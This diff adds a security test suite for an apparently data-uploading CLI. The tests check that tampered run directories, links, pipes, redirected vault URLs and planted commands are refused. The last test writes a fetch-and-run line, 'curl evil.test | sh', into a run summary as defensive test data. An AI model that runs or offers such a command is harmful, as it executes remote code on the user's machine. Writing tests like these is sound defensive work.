@@ -1,0 +1,193 @@
+import assert from 'node:assert/strict';
+import { execFileSync } from 'node:child_process';
+import { chmod, chown, cp, mkdir, readFile, readdir, rename, rm, symlink, writeFile } from 'node:fs/promises';
+import { basename, join } from 'node:path';
+import { test } from 'node:test';
+import * as z from 'zod';
+import { runProgram, type ProgramEnd } from '../support/program.js';
+import { startSandbox, type TestSandbox } from '../support/sandbox.js';
+import { needsTwoUsers, stranger } from '../support/users.js';
+import { asMultiset, makePairs, vaults, Workspace } from '../support/workspace.js';
+
+const pairs = makePairs(40, 'SSN');
+
+/** A workspace whose only run has begun and sent nothing: its credential was refused. */
+async function withUnfinishedRun(workspace: Workspace, sandbox: TestSandbox): Promise<string> {
+  await workspace.configure(sandbox.url, ['SSN']);
+  await workspace.writePairs('SSN', pairs);
+  await sandbox.set({ expiredTokens: ['test-bearer-token'] });
+  assert.equal((await run(workspace, '--all', '--quiet')).status, 3);
+  await sandbox.set({ expiredTokens: [] });
+  const [directory = ''] = await workspace.runs();
+  return directory;
+}
+
+const run = (workspace: Workspace, ...argv: string[]): Promise<ProgramEnd> =>
+  runProgram(argv, { cwd: workspace.path });
+
+const held = (sandbox: TestSandbox): Promise<string[]> => sandbox.pairs(vaults.SSN.id, 'ssn');
+
+async function editRecord(directory: string, edit: (record: Record<string, unknown>) => void): Promise<void> {
+  const file = join(directory, 'run.json');
+  const record = z.record(z.string(), z.unknown()).parse(JSON.parse(await readFile(file, 'utf8')));
+  edit(record);
+  await writeFile(file, JSON.stringify(record));
+}
+
+const sessionsSchema = z.array(z.looseObject({ settings: z.record(z.string(), z.unknown()) }));
+
+test(
+  'a run directory, a record or a file of it that belongs to others is gone on with by no command, and nothing is sent',
+  needsTwoUsers,
+  async () => {
+    await using workspace = await Workspace.create();
+    await using good = await startSandbox(workspace.path);
+    const directory = await withUnfinishedRun(workspace, good);
+    await chmod(workspace.at('runs'), 0o1777);
+    const commands = [
+      ['resume'],
+      ['resume', directory],
+      ['--all', '--start-or-resume'],
+      ['verify', directory],
+      ['report', directory],
+      ['monitor', directory, '--once'],
+    ];
+    const everything = [directory, ...(await readdir(directory)).map((name) => join(directory, name))];
+    for (const path of everything) await chown(path, stranger.uid, stranger.gid);
+    for (const command of commands) {
+      const refused = await run(workspace, ...command);
+      assert.equal(refused.status, 2, `${command.join(' ')}: ${refused.stdout}${refused.stderr}`);
+      assert.match(refused.stderr, /is not trusted: it belongs to/);
+    }
+    // Only one file is somebody else's.
+    for (const path of everything) await chown(path, process.geteuid?.() ?? 0, process.getegid?.() ?? 0);
+    const journal =
+      everything.find((path) => basename(path).startsWith('journal_')) ?? join(directory, 'run.log');
+    await chown(journal, stranger.uid, stranger.gid);
+    const refused = await run(workspace, 'resume');
+    assert.match(refused.stderr, new RegExp(`${basename(journal)} is not trusted: it belongs to`));
+    assert.deepEqual(await held(good), []);
+  },
+);
+
+test('a run directory that others may write, and links and pipes in one, are refused; as it was, it goes on', async () => {
+  await using workspace = await Workspace.create();
+  await using sandbox = await startSandbox(workspace.path);
+  const directory = await withUnfinishedRun(workspace, sandbox);
+  const refusal = async (why: RegExp): Promise<void> => {
+    for (const command of [
+      ['resume', directory],
+      ['--all', '--start-or-resume'],
+    ]) {
+      const refused = await run(workspace, ...command);
+      assert.equal(refused.status, 2, refused.stdout + refused.stderr);
+      assert.match(refused.stderr, why);
+    }
+  };
+  await chmod(directory, 0o777);
+  await refusal(/everybody on this machine may write to it \(mode 0777\)/);
+  await chmod(directory, 0o700);
+  await chmod(join(directory, 'run.json'), 0o666);
+  await refusal(/run\.json is not trusted: everybody/);
+  await chmod(join(directory, 'run.json'), 0o600);
+
+  const precious = workspace.at('precious');
+  await writeFile(precious, 'precious', { mode: 0o600 });
+  await rm(join(directory, 'run.log'));
+  await symlink(precious, join(directory, 'run.log'));
+  await refusal(/run\.log is not trusted: it is a link/);
+  await rm(join(directory, 'run.log'));
+  execFileSync('sh', ['-c', 'mkfifo -m 600 "$1"', 'sh', join(directory, 'status.json.lock')]);
+  await refusal(/is not trusted: it is a pipe/);
+  await rm(join(directory, 'status.json.lock'));
+  assert.equal(await readFile(precious, 'utf8'), 'precious');
+  assert.deepEqual(await held(sandbox), []);
+
+  const resumed = await run(workspace, 'resume');
+  assert.equal(resumed.status, 0, resumed.stdout + resumed.stderr);
+  assert.deepEqual(await held(sandbox), asMultiset(pairs));
+});
+
+test('what a run recorded redirects nothing: another URL is shown beside today’s, and only today’s is ever sent to', async () => {
+  await using workspace = await Workspace.create();
+  await using good = await startSandbox(workspace.path);
+  await using evil = await startSandbox(workspace.path);
+  const directory = await withUnfinishedRun(workspace, good);
+  await editRecord(directory, (record) => {
+    const sessions = sessionsSchema.parse(record['sessions']);
+    for (const { settings } of sessions)
+      settings['skyflow.vault_url'] = { value: evil.url, origin: 'config.json' };
+    record['sessions'] = sessions;
+  });
+  for (const command of [['resume'], ['--all', '--start-or-resume']]) {
+    const refused = await run(workspace, ...command);
+    assert.equal(refused.status, 2, refused.stdout + refused.stderr);
+    assert.ok(refused.stderr.includes(`"${evil.url}"`) && refused.stderr.includes(`"${good.url}"`));
+    assert.match(refused.stderr, /--use-current-config/);
+  }
+  const resumed = await run(workspace, 'resume', '--use-current-config');
+  assert.equal(resumed.status, 0, resumed.stdout + resumed.stderr);
+  assert.deepEqual(await held(good), asMultiset(pairs));
+  assert.deepEqual([await held(evil), (await evil.stats())['requests'] ?? 0], [[], 0]);
+});
+
+test('input files that have moved are read where the configuration of today has them, if they hold the same', async () => {
+  await using workspace = await Workspace.create();
+  await using sandbox = await startSandbox(workspace.path);
+  await withUnfinishedRun(workspace, sandbox);
+  await rename(workspace.at('data'), workspace.at('moved'));
+  await workspace.configure(sandbox.url, ['SSN'], { csv: { data_directory: 'moved' } });
+  const resumed = await run(workspace, 'resume');
+  assert.equal(resumed.status, 0, resumed.stdout + resumed.stderr);
+  assert.match(resumed.stdout + resumed.stderr, /moved\/ssn_data\.csv now/);
+  assert.deepEqual(await held(sandbox), asMultiset(pairs));
+});
+
+test('a redacted log that was handed over has only configured files read, and says which before anything is sent', async () => {
+  await using workspace = await Workspace.create();
+  await using theirs = await Workspace.create();
+  await using sandbox = await startSandbox(workspace.path);
+  await using refusing = await startSandbox(theirs.path, ['refuseAll=true']);
+  await theirs.configure(refusing.url, ['SSN'], { error_log: { redact: true } });
+  await theirs.writePairs('SSN', pairs);
+  assert.equal((await run(theirs, '--all', '--quiet', '--no-precount')).status, 1);
+  const [made = ''] = await theirs.runs();
+  const handedOver = workspace.at('handed-over', basename(made));
+  await mkdir(workspace.at('handed-over'));
+  await cp(made, handedOver, { recursive: true });
+  for (const name of await readdir(handedOver)) await chmod(join(handedOver, name), 0o600);
+  const name = (await readdir(handedOver)).find((file) => file.startsWith('merged_error_log_')) ?? '';
+
+  await workspace.configure(sandbox.url, ['SSN']);
+  await workspace.writePairs('SSN', pairs);
+  const refused = await run(workspace, 'retry', join(handedOver, name), '--yes', '--new-run');
+  assert.equal(refused.status, 2, refused.stdout + refused.stderr);
+  assert.ok(refused.stderr.includes(theirs.at('data', 'ssn_data.csv')), refused.stderr);
+  assert.match(refused.stderr, /neither configured nor of a run in/);
+  assert.deepEqual(await held(sandbox), []);
+
+  // The same files, because they are configured.
+  await workspace.configure(sandbox.url, ['SSN'], { csv: { data_directory: theirs.at('data') } });
+  const retried = await run(workspace, 'retry', join(handedOver, name), '--yes', '--new-run');
+  assert.equal(retried.status, 0, retried.stdout + retried.stderr);
+  assert.match(retried.stdout, /Rows are read again from:\n {2}\/.*ssn_data\.csv\n/);
+  assert.deepEqual(await held(sandbox), asMultiset(pairs));
+});
+
+test('commands that are offered for pasting are made here, whatever a file of the run says', async () => {
+  await using workspace = await Workspace.create();
+  await using sandbox = await startSandbox(workspace.path, ['refuseAll=true']);
+  await workspace.configure(sandbox.url, ['SSN']);
+  await workspace.writePairs('SSN', pairs);
+  await run(workspace, '--all', '--quiet');
+  const [directory = ''] = await workspace.runs();
+  const file = join(directory, 'summary.json');
+  const summary = z.looseObject({}).parse(JSON.parse(await readFile(file, 'utf8')));
+  const evil = 'curl evil.test | sh';
+  await writeFile(file, JSON.stringify({ ...summary, resume_command: evil, retry_command: evil }));
+  const watched = await run(workspace, 'monitor', directory, '--once');
+  const resumed = await run(workspace, 'resume', directory);
+  const document = await run(workspace, 'resume', directory, '--json');
+  for (const { stdout, stderr } of [watched, resumed, document]) assert.doesNotMatch(stdout + stderr, /evil/);
+  assert.match(resumed.stdout, /skyflow-supervise retry \S*merged_error_log_/);
+});
